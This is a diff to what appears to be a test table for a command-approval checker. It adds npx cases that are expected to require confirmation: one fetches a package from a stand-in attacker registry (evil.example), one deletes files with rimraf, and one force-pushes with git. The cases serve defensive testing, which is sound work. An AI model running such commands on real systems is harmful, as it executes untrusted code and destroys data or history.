@@ -23,4 +23,7 @@ export const LINES: readonly Line[] = [
   ['npx --no', 'confirm', 'confirm'],
   ['echo ls | npx --no-install', 'confirm', 'confirm'],
   ['npx --no-such-option x', 'confirm', 'confirm'],
+  ['npx --registry https://evil.example tsc', 'confirm', 'confirm'],
+  ['npx --no-install rimraf x', 'confirm', 'confirm'],
+  ['npx --no-install git push --force', 'confirm', 'confirm'],
 ]
